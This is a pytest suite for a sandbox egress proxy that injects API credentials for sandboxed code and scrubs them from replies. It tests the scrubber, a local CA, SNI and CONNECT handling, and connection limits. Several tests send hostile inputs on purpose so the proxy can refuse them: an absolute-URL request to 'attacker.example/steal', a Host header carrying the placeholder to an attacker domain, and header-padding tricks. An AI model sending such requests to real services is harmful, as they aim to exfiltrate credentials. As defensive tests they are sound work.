"""Brokered connectors on loopback: the scrubber, the CA and its leaves, the broker behind the
proxy's CONNECT and behind the transparent (SNI) listener, against a TLS upstream of the test's
own CA that echoes what it got. Names resolve through a test table to a documentation address,
and connections to it are redirected to the loopback upstream."""

from __future__ import annotations

import asyncio
import base64
import json
import os
import socket
import ssl
import stat
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import h11
import pytest

from sandboxd.runtime import SandboxSpec
from sandboxd.runtime.bwrap import SandboxFds, build_argv
from sandboxd.runtime.languages import PROGRAM_DIR
from sandboxd.runtime.network import CA_BUNDLE_PATH, Brokered, CertificateAuthority, Egress, Forward, NetworkPolicy
from sandboxd.runtime.network.broker import scrubber
from sandboxd.runtime.network.forward import Forwarder
from sandboxd.runtime.network.policy import AllowRule
from sandboxd.runtime.network.proxy import EgressProxy
from sandboxd.runtime.pool import key_of

SECRET = "sk-live-0123456789abcdefSECRET"
PLACEHOLDER = "sbx-placeholder-7f3a9c2e51d04b6a"
UPSTREAM_ADDR = "203.0.113.20"


def _rule(**over: object) -> Brokered:
    fields: dict[str, object] = dict(
        connector="api", hosts=(AllowRule("api.test"),), header="Authorization",
        template="Bearer {secret}", placeholder=PLACEHOLDER, secret=SECRET,
    )
    fields.update(over)
    return Brokered(**fields)  # type: ignore[arg-type]


# --- the scrubber ---------------------------------------------------------------------------


def _scrubber():  # type: ignore[no-untyped-def]
    return scrubber(Brokered("api", (), "Authorization", "Bearer {secret}", PLACEHOLDER, SECRET))


def _forms(text: str) -> list[str]:
    raw = text.encode()
    out = [text]
    for prefix in (b"", b"u:", b"us:", b"use:"):
        for enc in (base64.standard_b64encode, base64.urlsafe_b64encode):
            out.append(enc(prefix + raw).decode())
    return out


@pytest.mark.parametrize("step", [1, 2, 3, 7, 64])
def test_scrubber_replaces_the_secret_and_its_base64_forms_across_chunk_boundaries(step: int) -> None:
    for form in _forms(SECRET):
        text = f"before {form} middle {form} after".encode()
        scrub = _scrubber()
        out = b"".join(scrub.feed(text[i : i + step]) for i in range(0, len(text), step)) + scrub.flush()
        assert SECRET.encode() not in out
        for leaked in _forms(SECRET)[1:]:
            assert leaked[2:-2].encode() not in out, (form, out)
        assert out.startswith(b"before ") and out.endswith(b" after")


def test_scrubber_holds_back_only_what_could_start_the_secret() -> None:
    scrub = _scrubber()
    assert scrub.feed(b"data: {}\n\n") == b"data: {}\n\n"  # an event goes out at once
    assert scrub.feed(b"x " + SECRET[:5].encode()) == b"x "
    assert scrub.feed(SECRET[5:].encode() + b" y") == PLACEHOLDER.encode() + b" y"


def test_scrubber_leaves_other_text_alone() -> None:
    scrub = _scrubber()
    text = b"nothing secret here, " * 100
    assert scrub.feed(text) + scrub.flush() == text
    assert _scrubber().replace(SECRET.encode()) == PLACEHOLDER.encode()


def test_a_brokered_rule_keeps_its_secret_out_of_repr() -> None:
    assert SECRET not in repr(_rule()) and SECRET not in repr(Egress(brokered=(_rule(),)))
    assert _rule().header_value() == f"Bearer {SECRET}"


# --- the CA -----------------------------------------------------------------------------------


def test_the_ca_is_made_once_with_its_modes_and_loaded_after(tmp_path: Path) -> None:
    first = CertificateAuthority.load_or_create(tmp_path / "ca")
    again = CertificateAuthority.load_or_create(tmp_path / "ca")
    assert first.cert_pem == again.cert_pem
    assert stat.S_IMODE(os.stat(tmp_path / "ca" / "ca.key").st_mode) == 0o600
    assert stat.S_IMODE(os.stat(tmp_path / "ca" / "ca.pem").st_mode) == 0o644
    assert first.bundle().endswith(first.cert_pem)
    assert not [p for p in (tmp_path / "ca").iterdir() if p.name.startswith(".leaf-")]


def test_concurrent_creators_agree_on_one_ca(tmp_path: Path) -> None:
    import concurrent.futures

    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        made = list(pool.map(lambda _: CertificateAuthority.load_or_create(tmp_path / "ca").cert_pem, range(8)))
    assert len(set(made)) == 1


async def test_a_leaf_verifies_against_the_ca_for_its_name_only(tmp_path: Path) -> None:
    ca = CertificateAuthority.load_or_create(tmp_path / "ca")
    server = await asyncio.start_server(lambda r, w: w.close(), "127.0.0.1", 0, ssl=ca.server_context("api.test"))
    port = server.sockets[0].getsockname()[1]
    client = ssl.create_default_context(cadata=ca.cert_pem.decode())
    try:
        _, w = await asyncio.open_connection("127.0.0.1", port, ssl=client, server_hostname="api.test")
        w.close()
        with pytest.raises(ssl.SSLCertVerificationError):
            await asyncio.open_connection("127.0.0.1", port, ssl=client, server_hostname="other.test")
    finally:
        server.close()


# --- the broker, end to end on loopback -----------------------------------------------------


@dataclass
class Rig:
    proxy: EgressProxy
    proxy_port: int
    tls_port: int
    client_tls: ssl.SSLContext
    upstream_tls: ssl.SSLContext
    seen: list[dict[str, str]]


async def _upstream_handler(seen: list[dict[str, str]], r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
    """Answers 200 only with the right Authorization; echoes the request in a chunked body,
    a few bytes per chunk so the secret (if it came) straddles chunk boundaries."""
    conn = h11.Connection(h11.SERVER)
    try:
        while True:
            event = conn.next_event()
            if event is h11.NEED_DATA:
                conn.receive_data(await r.read(65536))
                continue
            if isinstance(event, h11.Request):
                headers = {k.decode(): v.decode() for k, v in event.headers.raw_items()}
                raw = "\n".join(f"{k.decode()}: {v.decode()}" for k, v in event.headers.raw_items())
                seen.append({"target": event.target.decode(), **headers, "raw": raw})
                ok = headers.get("Authorization") == f"Bearer {SECRET}"
                body = json.dumps({"target": event.target.decode(), "headers": headers}).encode()
                reason = headers.get("Authorization", "").encode() if event.target == b"/reason" else b""
                out = conn.send(h11.Response(status_code=200 if ok else 401, headers=[
                    (b"X-Echo-Auth", headers.get("Authorization", "").encode()),
                ], reason=reason))
                for i in range(0, len(body), 5):
                    out += conn.send(h11.Data(data=body[i : i + 5]))
                w.write(out + conn.send(h11.EndOfMessage()))
                await w.drain()
                if event.target.endswith(b"/then-hang-up"):  # unannounced: as an idle timeout
                    break
            elif isinstance(event, h11.EndOfMessage):
                conn.start_next_cycle()
            else:
                break
    except (h11.ProtocolError, ConnectionError, ssl.SSLError):
        pass
    finally:
        w.close()


@pytest.fixture
async def rig(tmp_path: Path) -> AsyncIterator[Rig]:
    upstream_ca = CertificateAuthority.load_or_create(tmp_path / "upstream-ca")
    seen: list[dict[str, str]] = []
    contexts = {h: upstream_ca.server_context(h) for h in ("api.test", "other-api.test")}
    front = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)

    def pick(obj: ssl.SSLObject, name: str | None, _: ssl.SSLContext) -> None:
        obj.context = contexts[name or "api.test"]

    front.sni_callback = pick
    upstream = await asyncio.start_server(lambda r, w: _upstream_handler(seen, r, w), "127.0.0.1", 0, ssl=front)
    up_port = upstream.sockets[0].getsockname()[1]

    async def resolve(host: str, port: int) -> list[str]:
        return [UPSTREAM_ADDR]

    async def connect(address: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        assert address == UPSTREAM_ADDR
        return await asyncio.open_connection("127.0.0.1", up_port)

    ca = CertificateAuthority.load_or_create(tmp_path / "ca")
    upstream_tls = ssl.create_default_context(cadata=upstream_ca.cert_pem.decode())
    proxy = EgressProxy(
        NetworkPolicy("allowlist", (AllowRule("other-api.test"),)), resolver=resolve, connect=connect,
        egress=Egress(brokered=(_rule(),)), ca=ca, upstream_tls=upstream_tls,
    )
    listeners = []
    for _ in range(2):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP)
        sock.bind(("127.0.0.1", 0))
        sock.listen()
        sock.setblocking(False)
        listeners.append(sock)
    await proxy.start(listeners[0])
    await proxy.start_transparent(listeners[1], {"api.test": ca.server_context("api.test")}, port=443)
    client_tls = ssl.create_default_context(cadata=ca.cert_pem.decode())
    try:
        yield Rig(
            proxy, listeners[0].getsockname()[1], listeners[1].getsockname()[1], client_tls, upstream_tls, seen
        )
    finally:
        await proxy.close()
        upstream.close()


async def _requests(
    r: asyncio.StreamReader, w: asyncio.StreamWriter, host: str, requests: list[tuple[str, list[tuple[str, str]]]]
) -> list[tuple[int, dict[str, str], bytes]]:
    conn = h11.Connection(h11.CLIENT)
    out = []
    for target, headers in requests:
        w.write(conn.send(h11.Request(method="GET", target=target, headers=[("Host", host), *headers])))
        w.write(conn.send(h11.EndOfMessage()))
        await w.drain()
        status, got, body = 0, {}, b""
        while True:
            event = conn.next_event()
            if event is h11.NEED_DATA:
                conn.receive_data(await asyncio.wait_for(r.read(65536), 10))
            elif isinstance(event, h11.Response):
                status, got = event.status_code, {k.decode(): v.decode() for k, v in event.headers.raw_items()}
            elif isinstance(event, h11.Data):
                body += event.data
            elif isinstance(event, h11.EndOfMessage):
                break
            else:
                raise AssertionError(event)
        out.append((status, got, body))
        conn.start_next_cycle()
    w.close()
    return out


async def _connect(rig: Rig, host: str, port: int = 443) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)
    w.write(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    assert (await r.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
    return r, w


async def test_connect_to_a_connector_host_is_brokered_with_keep_alive(rig: Rig) -> None:
    r, w = await _connect(rig, "api.test")
    await w.start_tls(rig.client_tls, server_hostname="api.test")
    answers = await _requests(r, w, "api.test", [
        (f"/v1/items?key={PLACEHOLDER}", []),  # header added from the template
        ("/v1/again", [("Authorization", f"Bearer {PLACEHOLDER}"), ("Accept-Encoding", "gzip")]),
    ])
    assert [a[0] for a in answers] == [200, 200]
    for status, headers, body in answers:
        assert SECRET not in body.decode() and SECRET not in json.dumps(headers)
        assert headers["X-Echo-Auth"] == f"Bearer {PLACEHOLDER}"
        assert json.loads(body)["headers"]["Authorization"] == f"Bearer {PLACEHOLDER}"
    assert rig.seen[0]["target"] == f"/v1/items?key={PLACEHOLDER}"  # the header only: not the query
    assert all(s["Authorization"] == f"Bearer {SECRET}" and s["Accept-Encoding"] == "identity" for s in rig.seen)
    decisions = [d for d in rig.proxy.decisions if d.connector == "api"]
    assert [(d.host, d.port, d.method, d.status, d.count, d.reason) for d in decisions] == [
        ("api.test", 443, "GET", 200, 2, "brokered")
    ]
    assert SECRET not in repr(rig.proxy.decisions)


async def test_the_transparent_listener_brokers_by_sni_and_refuses_other_names(rig: Rig) -> None:
    r, w = await asyncio.open_connection("127.0.0.1", rig.tls_port, ssl=rig.client_tls, server_hostname="api.test")
    [(status, _, body)] = await _requests(r, w, "api.test", [("/", [])])
    assert status == 200 and SECRET not in body.decode()
    with pytest.raises((ssl.SSLError, ConnectionError)):
        await asyncio.open_connection("127.0.0.1", rig.tls_port, ssl=rig.client_tls, server_hostname="other-api.test")
    assert any(d.host == "other-api.test" and not d.allowed for d in rig.proxy.decisions)


async def test_the_placeholder_to_another_host_stays_a_placeholder(rig: Rig) -> None:
    r, w = await _connect(rig, "other-api.test")  # in the allowlist: a plain tunnel
    await w.start_tls(rig.upstream_tls, server_hostname="other-api.test")
    [(status, _, body)] = await _requests(r, w, "other-api.test", [("/", [("Authorization", f"Bearer {PLACEHOLDER}")])])
    assert status == 401
    assert rig.seen[-1]["Authorization"] == f"Bearer {PLACEHOLDER}"


async def test_a_host_neither_listed_nor_brokered_is_refused(rig: Rig) -> None:
    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)
    w.write(b"CONNECT elsewhere.test:443 HTTP/1.1\r\n\r\n")
    assert (await r.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 403")
    w.close()


async def test_plain_http_to_a_connector_host_goes_through_without_the_secret(rig: Rig) -> None:
    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)
    w.write(f"GET http://api.test/x HTTP/1.1\r\nHost: api.test\r\nAuthorization: {PLACEHOLDER}\r\n\r\n".encode())
    await w.drain()
    await asyncio.wait_for(r.read(100), 10)  # the TLS upstream answers nonsense: only the record matters
    w.close()
    assert any(d.reason == "brokered only over https" and d.connector == "api" for d in rig.proxy.decisions)
    assert SECRET not in repr(rig.proxy.decisions)


# --- forwards -------------------------------------------------------------------------------


async def test_a_forward_splices_to_its_target_and_is_recorded() -> None:
    async def echo(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        w.write(await r.read(100))
        await w.drain()
        w.close()

    target = await asyncio.start_server(echo, "127.0.0.1", 0)
    target_port = target.sockets[0].getsockname()[1]
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    forwarder = Forwarder()
    await forwarder.start(Forward("db", 5432, "127.0.0.1", target_port), listener)
    try:
        r, w = await asyncio.open_connection(*listener.getsockname())
        w.write(b"ping")
        assert await asyncio.wait_for(r.read(100), 10) == b"ping"
        w.close()
    finally:
        await forwarder.close()
        target.close()
    [d] = forwarder.decisions
    assert (d.connector, d.host, d.port, d.allowed, d.count) == ("db", "127.0.0.1", target_port, True, 1)


# --- pool key and bubblewrap ----------------------------------------------------------------


def test_a_spec_with_connectors_is_never_pooled() -> None:
    plain = SandboxSpec(language="python", code=b"")
    assert key_of(plain) is not None
    assert key_of(SandboxSpec(language="python", code=b"", egress=Egress(brokered=(_rule(),)))) is None
    assert key_of(SandboxSpec(language="python", code=b"", egress=Egress(forwards=(Forward("db", 5432, "h", 1),)))) is None
    assert not Egress() and Egress(forwards=(Forward("db", 5432, "h", 1),))


def test_bwrap_joins_the_namespace_and_binds_the_bundle_with_connectors() -> None:
    fds = SandboxFds(program=3, seccomp=4, passwd=5, group=6, hosts=7, nsswitch=8)
    plain = build_argv(SandboxSpec(language="python", code=b""), fds)
    assert "--unshare-net" in plain and CA_BUNDLE_PATH not in plain
    spec = SandboxSpec(language="python", code=b"", egress=Egress(brokered=(_rule(),)))
    argv = build_argv(spec, SandboxFds(program=3, seccomp=4, passwd=5, group=6, hosts=7, nsswitch=8, ca_bundle=9))
    assert "--unshare-net" not in argv
    assert CA_BUNDLE_PATH.startswith(PROGRAM_DIR + "/")  # one tmpfs holds both
    at = argv.index(CA_BUNDLE_PATH)
    assert argv[at - 2 : at] == ["--ro-bind-data", "9"]
    assert argv[at - 4 : at - 2] == ["--tmpfs", "/run/sandboxd"]
    assert argv.index("--remount-ro", at) < argv.index("--remount-ro", argv.index("--remount-ro", at) + 1)
    assert SECRET not in " ".join(argv)


async def _raw(rig: Rig, request: bytes) -> bytes:
    """One request on a brokered connection, and everything that comes back until it closes."""
    r, w = await _connect(rig, "api.test")
    await w.start_tls(rig.client_tls, server_hostname="api.test")
    w.write(request)
    await w.drain()
    try:
        return await asyncio.wait_for(r.read(), 10)  # to the end: each request here closes
    finally:
        w.close()


async def test_a_post_body_and_expect_continue_go_through(rig: Rig) -> None:
    body = f"payload {PLACEHOLDER}".encode()
    out = await _raw(rig, (
        b"POST /submit HTTP/1.1\r\nHost: api.test\r\nExpect: 100-continue\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body
    ))
    assert out.startswith(b"HTTP/1.1 100 ") and b"HTTP/1.1 200 " in out, out
    assert SECRET.encode() not in out
    assert "Expect" not in rig.seen[-1] and rig.seen[-1]["Content-Length"] == str(len(body))


async def test_an_upstream_that_fails_verification_is_a_502_and_recorded(rig: Rig, tmp_path: Path) -> None:
    rig.proxy._upstream_tls = ssl.create_default_context()  # the system store: not the test's CA
    out = await _raw(rig, b"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 502 "), out
    assert [(d.reason, d.status) for d in rig.proxy.decisions if d.connector == "api"] == [("upstream failed", None)]


async def test_a_client_that_does_not_trust_the_ca_is_recorded(rig: Rig) -> None:
    r, w = await _connect(rig, "api.test")
    with pytest.raises(ssl.SSLError):
        await w.start_tls(ssl.create_default_context(), server_hostname="api.test")
    w.close()
    for _ in range(50):
        if any(d.reason == "TLS with the sandbox failed" for d in rig.proxy.decisions):
            break
        await asyncio.sleep(0.02)
    assert any(d.reason == "TLS with the sandbox failed" and d.connector == "api" for d in rig.proxy.decisions)


async def test_a_kept_alive_upstream_that_hung_up_is_tried_again(rig: Rig) -> None:
    r, w = await _connect(rig, "api.test")
    await w.start_tls(rig.client_tls, server_hostname="api.test")
    answers = await _requests(r, w, "api.test", [("/then-hang-up", []), ("/after", [])])
    assert [a[0] for a in answers] == [200, 200]
    assert [s["target"] for s in rig.seen] == ["/then-hang-up", "/after"]


# --- a brokered session is bound to its host (review findings 2, 3, 4, 6, 7) -----------------


async def test_an_absolute_target_for_another_host_is_refused_and_never_sent(rig: Rig) -> None:
    out = await _raw(rig, b"GET https://attacker.example/steal HTTP/1.1\r\nHost: attacker.example\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 400 ") and b"reaches api.test only" in out, out
    assert rig.seen == []
    assert [(d.allowed, d.reason) for d in rig.proxy.decisions if d.connector == "api"] == [
        (False, "a target for another host")
    ]
    assert rig.proxy.refused_any


async def test_an_absolute_target_for_the_session_host_becomes_origin_form(rig: Rig) -> None:
    out = await _raw(rig, b"GET https://API.test:443/v1?q=1 HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 200 "), out
    assert rig.seen[-1]["target"] == "/v1?q=1"


@pytest.mark.parametrize("target", [b"https://api.test:8443/", b"http://api.test/", b"https://u@api.test/", b"api.test:443"])
async def test_other_absolute_or_authority_targets_are_refused(rig: Rig, target: bytes) -> None:
    out = await _raw(rig, b"GET " + target + b" HTTP/1.1\r\nHost: api.test\r\n\r\n")
    assert out.startswith(b"HTTP/1.1 400 "), out
    assert rig.seen == []


async def test_the_broker_sets_host_and_substitutes_only_in_the_connectors_header(rig: Rig) -> None:
    out = await _raw(rig, (
        f"GET /h?k={PLACEHOLDER} HTTP/1.1\r\nHost: {PLACEHOLDER}.attacker.example\r\n"
        f"X-Forwarded-Host: {PLACEHOLDER}\r\nAuthorization: Bearer {PLACEHOLDER}\r\n"
        f"Range: bytes=0-10\r\nIf-Range: x\r\nConnection: close\r\n\r\n"
    ).encode())
    assert out.startswith(b"HTTP/1.1 200 "), out
    [seen] = rig.seen
    assert seen["Host"] == "api.test"
    assert seen["X-Forwarded-Host"] == PLACEHOLDER and seen["target"] == f"/h?k={PLACEHOLDER}"
    assert seen["Authorization"] == f"Bearer {SECRET}"
    assert "Range" not in seen and "If-Range" not in seen
    assert SECRET.encode() not in out


@pytest.mark.parametrize("sent", [
    f"Authorization: AAAAAAAAAAAAAAAA{PLACEHOLDER}",  # padding slides the secret across a truncated echo
    f"Authorization: Basic {PLACEHOLDER}{PLACEHOLDER}",
    "Authorization: Bearer something-else",
    f"authorization: Bearer {PLACEHOLDER}\r\nAuthorization: x{PLACEHOLDER}",
])
async def test_the_connector_header_is_always_exactly_the_template(rig: Rig, sent: str) -> None:
    out = await _raw(rig, f"GET /h HTTP/1.1\r\nHost: api.test\r\n{sent}\r\nConnection: close\r\n\r\n".encode())
    assert out.startswith(b"HTTP/1.1 200 "), out
    [seen] = rig.seen
    assert seen["Authorization"] == f"Bearer {SECRET}"
    assert seen["raw"].count(SECRET) == 1


async def test_the_response_reason_phrase_is_scrubbed(rig: Rig) -> None:
    out = await _raw(rig, b"GET /reason HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
    assert out.startswith(f"HTTP/1.1 200 Bearer {PLACEHOLDER}\r\n".encode()), out
    assert SECRET.encode() not in out


@pytest.mark.parametrize("head", [
    b"CONNECT elsewhere.test:443 HTTP/1.1\r\nHost: elsewhere.test:443\r\n\r\n",
    b"GET /ws HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
])
async def test_connect_and_upgrade_inside_a_session_are_refused(rig: Rig, head: bytes) -> None:
    out = await _raw(rig, head)
    assert out.startswith(b"HTTP/1.1 400 ") and b"not brokered" in out, out
    assert rig.seen == []
    assert any(not d.allowed and d.connector == "api" for d in rig.proxy.decisions)


async def _brokered_methods(rig: Rig, methods: list[str]) -> None:
    r, w = await _connect(rig, "api.test")
    await w.start_tls(rig.client_tls, server_hostname="api.test")
    conn = h11.Connection(h11.CLIENT)
    for method in methods:
        w.write(conn.send(h11.Request(method=method, target="/", headers=[("Host", "api.test"), ("Content-Length", "0")])))
        w.write(conn.send(h11.EndOfMessage()))
        await w.drain()
        while not isinstance(event := conn.next_event(), h11.EndOfMessage):
            if event is h11.NEED_DATA:
                conn.receive_data(await asyncio.wait_for(r.read(65536), 10))
        conn.start_next_cycle()
    w.close()


async def test_unusual_methods_are_one_row_and_a_full_record_still_counts(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    await _brokered_methods(rig, [f"X{i}" for i in range(40)] + ["GET"])
    rows = {(d.method, d.count) for d in rig.proxy.decisions if d.connector == "api"}
    assert rows == {("OTHER", 40), ("GET", 1)}
    import sandboxd.runtime.network.proxy as proxy_module

    monkeypatch.setattr(proxy_module, "_MAX_DECISIONS", len(rig.proxy.decisions))
    await _brokered_methods(rig, ["DELETE", "DELETE"])  # a new row would not fit
    [over] = [d for d in rig.proxy.decisions if d.method == "DELETE"]
    assert (over.host, over.connector, over.count, over.allowed) == ("*", "api", 2, True)
    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)
    w.write(b"CONNECT denied.test:443 HTTP/1.1\r\n\r\n")
    await r.read()
    w.close()
    assert rig.proxy.refused_any  # a refusal past the limit still shows


async def test_a_leaf_is_made_only_for_a_name_the_policy_lets_through(rig: Rig, tmp_path: Path) -> None:
    async def inside(host: str, port: int) -> list[str]:
        return ["10.0.0.7"]

    rig.proxy._resolve = inside
    rig.proxy._ca = CertificateAuthority.load_or_create(tmp_path / "fresh-ca")  # no leaf made yet
    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)
    w.write(b"CONNECT api.test:443 HTTP/1.1\r\n\r\n")
    assert (await asyncio.wait_for(r.read(), 10)).startswith(b"HTTP/1.1 403 ")
    w.close()
    assert "api.test" not in rig.proxy._ca._contexts  # type: ignore[union-attr]
    assert any(not d.allowed and d.connector == "api" and "resolves to" in d.reason for d in rig.proxy.decisions)


async def test_a_client_that_stalls_its_body_is_timed_out(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    import sandboxd.runtime.network.broker as broker_module

    monkeypatch.setattr(broker_module, "_IDLE_S", 0.3)
    r, w = await _connect(rig, "api.test")
    await w.start_tls(rig.client_tls, server_hostname="api.test")
    w.write(b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 100\r\n\r\nonly part")
    await w.drain()
    out = await asyncio.wait_for(r.read(), 5)  # the broker gives up and closes, well before 5 s
    w.close()
    assert out.startswith(b"HTTP/1.1 502 ") or out == b"", out


# --- connection caps (review finding 5) ------------------------------------------------------


async def test_the_proxy_takes_at_most_max_connections_at_once(rig: Rig) -> None:
    from sandboxd.runtime.network.listeners import MAX_CONNECTIONS, TOO_MANY

    held = [await asyncio.open_connection("127.0.0.1", rig.proxy_port) for _ in range(MAX_CONNECTIONS)]
    await asyncio.sleep(0.1)
    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)
    assert await asyncio.wait_for(r.read(), 5) == b""  # closed at once
    w.close()
    [row] = [d for d in rig.proxy.decisions if d.reason == TOO_MANY]
    assert not row.allowed and row.count == 1
    for _, hw in held:
        hw.close()
    await asyncio.sleep(0.1)
    r, w = await asyncio.open_connection("127.0.0.1", rig.proxy_port)  # room again
    w.write(b"CONNECT denied.test:443 HTTP/1.1\r\n\r\n")
    assert (await asyncio.wait_for(r.read(), 5)).startswith(b"HTTP/1.1 403 ")
    w.close()


async def test_a_forward_takes_at_most_max_connections_at_once() -> None:
    from sandboxd.runtime.network.listeners import MAX_CONNECTIONS, TOO_MANY

    async def hold(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        await r.read()
        w.close()

    target = await asyncio.start_server(hold, "127.0.0.1", 0)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(128)
    listener.setblocking(False)
    forwarder = Forwarder()
    forward = Forward("db", 5432, "127.0.0.1", target.sockets[0].getsockname()[1])
    await forwarder.start(forward, listener)
    try:
        held = [await asyncio.open_connection(*listener.getsockname()) for _ in range(MAX_CONNECTIONS)]
        await asyncio.sleep(0.2)
        r, w = await asyncio.open_connection(*listener.getsockname())
        assert await asyncio.wait_for(r.read(), 5) == b""
        w.close()
        for _, hw in held:
            hw.close()
    finally:
        await forwarder.close()
        target.close()
    rows = {(d.reason, d.allowed, d.count) for d in forwarder.decisions}
    assert rows == {("forwarded", True, MAX_CONNECTIONS), (TOO_MANY, False, 1)}


async def test_an_sni_outside_the_name_alphabet_is_refused_and_recorded(rig: Rig) -> None:
    client = ssl.create_default_context()
    client.check_hostname = False
    client.verify_mode = ssl.CERT_NONE
    with pytest.raises((ssl.SSLError, ConnectionError)):
        await asyncio.open_connection("127.0.0.1", rig.tls_port, ssl=client, server_hostname="x!y.api.test")
    assert [(d.host, d.allowed) for d in rig.proxy.decisions] == [("(invalid SNI)", False)]
